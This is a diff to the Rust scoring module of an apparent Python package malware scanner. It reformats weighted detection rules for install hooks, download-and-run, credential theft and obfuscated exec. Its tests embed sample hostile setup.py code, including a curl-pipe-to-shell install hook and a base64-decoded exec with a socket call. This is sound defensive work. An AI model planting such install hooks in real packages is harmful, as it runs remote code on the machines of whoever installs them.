@@ -74,14 +74,46 @@ pub struct Combination {
 
 /// The combinations scored, in the order they are checked.
 pub const COMBINATIONS: &[Combination] = &[
-    Combination { id: "combo:hook-with-payload", description: "a custom install command and a dangerous call that runs during installation", weight: 0.35 },
-    Combination { id: "combo:download-and-run", description: "a download and a process or exec call in code that runs at install or import time", weight: 0.4 },
-    Combination { id: "combo:steal-and-send", description: "credential or stealer-target access and a network send in the same file", weight: 0.4 },
-    Combination { id: "combo:endpoint-contacted", description: "an exfiltration or staging endpoint and a network call in the same file", weight: 0.3 },
-    Combination { id: "combo:obfuscated-sink", description: "obfuscation around a dangerous call", weight: 0.3 },
-    Combination { id: "combo:obfuscated-exec", description: "obfuscated code that executes computed code while loading", weight: 0.45 },
-    Combination { id: "combo:executable-download-run", description: "a URL of a Windows executable and a process start in the same file", weight: 0.45 },
-    Combination { id: "combo:stolen-to-endpoint", description: "stealer-target access and an exfiltration endpoint in the same file", weight: 0.5 },
+    Combination {
+        id: "combo:hook-with-payload",
+        description: "a custom install command and a dangerous call that runs during installation",
+        weight: 0.35,
+    },
+    Combination {
+        id: "combo:download-and-run",
+        description: "a download and a process or exec call in code that runs at install or import time",
+        weight: 0.4,
+    },
+    Combination {
+        id: "combo:steal-and-send",
+        description: "credential or stealer-target access and a network send in the same file",
+        weight: 0.4,
+    },
+    Combination {
+        id: "combo:endpoint-contacted",
+        description: "an exfiltration or staging endpoint and a network call in the same file",
+        weight: 0.3,
+    },
+    Combination {
+        id: "combo:obfuscated-sink",
+        description: "obfuscation around a dangerous call",
+        weight: 0.3,
+    },
+    Combination {
+        id: "combo:obfuscated-exec",
+        description: "obfuscated code that executes computed code while loading",
+        weight: 0.45,
+    },
+    Combination {
+        id: "combo:executable-download-run",
+        description: "a URL of a Windows executable and a process start in the same file",
+        weight: 0.45,
+    },
+    Combination {
+        id: "combo:stolen-to-endpoint",
+        description: "stealer-target access and an exfiltration endpoint in the same file",
+        weight: 0.5,
+    },
 ];
 
 /// How much power a capability gives running code (for securityRisk).
@@ -97,10 +129,12 @@ pub fn capability_weight(rule: &str) -> f64 {
 }
 
 fn noisy_or(weights: impl IntoIterator<Item = f64>) -> f64 {
-    1.0 - weights.into_iter().fold(1.0, |keep, w| keep * (1.0 - w.clamp(0.0, 1.0)))
+    1.0 - weights
+        .into_iter()
+        .fold(1.0, |keep, w| keep * (1.0 - w.clamp(0.0, 1.0)))
 }
 
-fn strongest<'f>(findings: &'f [Finding], filter: impl Fn(&Finding) -> bool) -> Option<&'f Finding> {
+fn strongest(findings: &[Finding], filter: impl Fn(&Finding) -> bool) -> Option<&Finding> {
     findings
         .iter()
         .filter(|f| filter(f))
@@ -111,28 +145,40 @@ fn early(f: &Finding) -> bool {
     matches!(f.context, ExecContext::Install | ExecContext::Import)
 }
 
-fn combination_evidence<'f>(id: &str, findings: &'f [Finding]) -> Option<(&'f Finding, &'f Finding)> {
+fn combination_evidence<'f>(
+    id: &str,
+    findings: &'f [Finding],
+) -> Option<(&'f Finding, &'f Finding)> {
     let sink = |f: &Finding| matches!(f.rule, "WH110" | "WH120" | "WH130" | "WH150");
     match id {
         "combo:hook-with-payload" => {
             let hook = strongest(findings, |f| f.has_tag("install-command"))?;
-            let payload = strongest(findings, |f| sink(f) && f.context == ExecContext::Install && f.severity >= 0.4)?;
+            let payload = strongest(findings, |f| {
+                sink(f) && f.context == ExecContext::Install && f.severity >= 0.4
+            })?;
             Some((hook, payload))
         }
         "combo:download-and-run" => {
-            let fetch = strongest(findings, |f| f.has_tag("net-fetch") && early(f) && f.severity >= 0.3)?;
+            let fetch = strongest(findings, |f| {
+                f.has_tag("net-fetch") && early(f) && f.severity >= 0.3
+            })?;
             let run = strongest(findings, |f| {
                 // Any process start counts: running a just-downloaded file needs no dynamic command.
-                early(f) && (f.rule == "WH110" && !f.has_tag("exec-file") && !f.has_tag("exec-constant")
-                    || f.rule == "WH120")
+                early(f)
+                    && (f.rule == "WH110" && !f.has_tag("exec-file") && !f.has_tag("exec-constant")
+                        || f.rule == "WH120")
             })?;
             Some((fetch, run))
         }
         "combo:steal-and-send" => {
             let steal = strongest(findings, |f| {
-                f.rule == "WH140" && (f.has_tag("stealer-target") || f.context == ExecContext::Install) && f.severity >= 0.2
+                f.rule == "WH140"
+                    && (f.has_tag("stealer-target") || f.context == ExecContext::Install)
+                    && f.severity >= 0.2
             })?;
-            let send = strongest(findings, |f| f.rule == "WH130" || f.has_tag("endpoint") && f.severity >= 0.4)?;
+            let send = strongest(findings, |f| {
+                f.rule == "WH130" || f.has_tag("endpoint") && f.severity >= 0.4
+            })?;
             Some((steal, send))
         }
         "combo:endpoint-contacted" => {
@@ -141,13 +187,19 @@ fn combination_evidence<'f>(id: &str, findings: &'f [Finding]) -> Option<(&'f Fi
             Some((endpoint, call))
         }
         "combo:obfuscated-sink" => {
-            let hidden = strongest(findings, |f| matches!(f.rule, "WH180" | "WH190" | "WH170") && f.severity >= 0.4)?;
+            let hidden = strongest(findings, |f| {
+                matches!(f.rule, "WH180" | "WH190" | "WH170") && f.severity >= 0.4
+            })?;
             let danger = strongest(findings, |f| sink(f) && f.severity >= 0.25)?;
             Some((hidden, danger))
         }
         "combo:obfuscated-exec" => {
-            let hidden = strongest(findings, |f| matches!(f.rule, "WH180" | "WH190") && f.severity >= 0.08)?;
-            let exec = strongest(findings, |f| f.rule == "WH110" && early(f) && f.severity >= 0.2)?;
+            let hidden = strongest(findings, |f| {
+                matches!(f.rule, "WH180" | "WH190") && f.severity >= 0.08
+            })?;
+            let exec = strongest(findings, |f| {
+                f.rule == "WH110" && early(f) && f.severity >= 0.2
+            })?;
             Some((hidden, exec))
         }
         "combo:executable-download-run" => {
@@ -155,13 +207,18 @@ fn combination_evidence<'f>(id: &str, findings: &'f [Finding]) -> Option<(&'f Fi
             // vendors' installers are downloaded and run by legitimate tools too.
             let runs = |f: &Finding| f.rule == "WH120" && f.context != ExecContext::TestOrDocs;
             let url = strongest(findings, |f| {
-                f.rule == "WH160" && f.message.contains("executable") && f.context != ExecContext::TestOrDocs && f.severity >= 0.3
+                f.rule == "WH160"
+                    && f.message.contains("executable")
+                    && f.context != ExecContext::TestOrDocs
+                    && f.severity >= 0.3
             })?;
             let run = strongest(findings, runs)?;
             Some((url, run))
         }
         "combo:stolen-to-endpoint" => {
-            let steal = strongest(findings, |f| f.has_tag("stealer-target") && f.context != ExecContext::TestOrDocs)?;
+            let steal = strongest(findings, |f| {
+                f.has_tag("stealer-target") && f.context != ExecContext::TestOrDocs
+            })?;
             let endpoint = strongest(findings, |f| f.rule == "WH160" && f.severity >= 0.15)?;
             Some((steal, endpoint))
         }
@@ -178,16 +235,16 @@ pub fn score_file(analysis: &FileAnalysis) -> FileScores {
     rules.sort_unstable();
     rules.dedup();
     for rule in &rules {
-        if let Some(best) = strongest(findings, |f| f.rule == *rule) {
-            if best.severity > 0.0 {
-                contributions.push(Contribution {
-                    score: "malware",
-                    rule: (*rule).to_owned(),
-                    location: best.location(),
-                    weight: best.severity,
-                    reason: format!("{} {}: {}", best.name, best.context.phrase(), best.message),
-                });
-            }
+        if let Some(best) = strongest(findings, |f| f.rule == *rule)
+            && best.severity > 0.0
+        {
+            contributions.push(Contribution {
+                score: "malware",
+                rule: (*rule).to_owned(),
+                location: best.location(),
+                weight: best.severity,
+                reason: format!("{} {}: {}", best.name, best.context.phrase(), best.message),
+            });
         }
     }
     for combination in COMBINATIONS {
@@ -197,7 +254,12 @@ pub fn score_file(analysis: &FileAnalysis) -> FileScores {
                 rule: combination.id.to_owned(),
                 location: second.location(),
                 weight: combination.weight,
-                reason: format!("{} ({} and {})", combination.description, first.location(), second.location()),
+                reason: format!(
+                    "{} ({} and {})",
+                    combination.description,
+                    first.location(),
+                    second.location()
+                ),
             });
         }
     }
@@ -215,11 +277,14 @@ pub fn score_file(analysis: &FileAnalysis) -> FileScores {
             });
         }
     }
-    let security_risk = 1.0 - (1.0 - malware) * (1.0 - noisy_or(risk_moves.iter().map(|c| c.weight)));
+    let security_risk =
+        1.0 - (1.0 - malware) * (1.0 - noisy_or(risk_moves.iter().map(|c| c.weight)));
 
     let mut obfuscation_moves: Vec<Contribution> = findings
         .iter()
-        .filter(|f| f.has_tag("obfuscation") || f.has_tag("hidden-code") || f.has_tag("exec-decoded"))
+        .filter(|f| {
+            f.has_tag("obfuscation") || f.has_tag("hidden-code") || f.has_tag("exec-decoded")
+        })
         .map(|f| Contribution {
             score: "obfuscated",
             rule: f.rule.to_owned(),
@@ -283,10 +348,14 @@ pub fn level(malware: f64) -> &'static str {
 mod tests {
     #![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
     use super::*;
-    use wheelhound_analysis::{analyze_python, AnalysisOptions};
+    use wheelhound_analysis::{AnalysisOptions, analyze_python};
 
     fn score(path: &str, code: &str) -> FileScores {
-        score_file(&analyze_python(path, code.as_bytes(), &AnalysisOptions::default()))
+        score_file(&analyze_python(
+            path,
+            code.as_bytes(),
+            &AnalysisOptions::default(),
+        ))
     }
 
     #[test]
@@ -294,7 +363,11 @@ mod tests {
         let code = "from setuptools import setup\nfrom setuptools.command.install import install\nimport os\nclass I(install):\n    def run(self):\n        os.system('curl http://x.invalid/a.sh | sh')\n        install.run(self)\nsetup(name='x', cmdclass={'install': I})\n";
         let s = score("x-1/setup.py", code);
         assert!(s.malware >= 0.9, "{s:?}");
-        assert!(s.contributions.iter().any(|c| c.rule == "combo:hook-with-payload"));
+        assert!(
+            s.contributions
+                .iter()
+                .any(|c| c.rule == "combo:hook-with-payload")
+        );
     }
 
     #[test]
@@ -314,7 +387,10 @@ mod tests {
 
     #[test]
     fn scores_stay_in_range() {
-        let s = score("x/setup.py", "exec(__import__('base64').b64decode('cHJpbnQoMSk='))\nimport socket;socket.socket().connect(('1.2.3.4', 1))\n");
+        let s = score(
+            "x/setup.py",
+            "exec(__import__('base64').b64decode('cHJpbnQoMSk='))\nimport socket;socket.socket().connect(('1.2.3.4', 1))\n",
+        );
         for v in [s.malware, s.security_risk, s.obfuscated, s.confidence] {
             assert!((0.0..=1.0).contains(&v));
         }
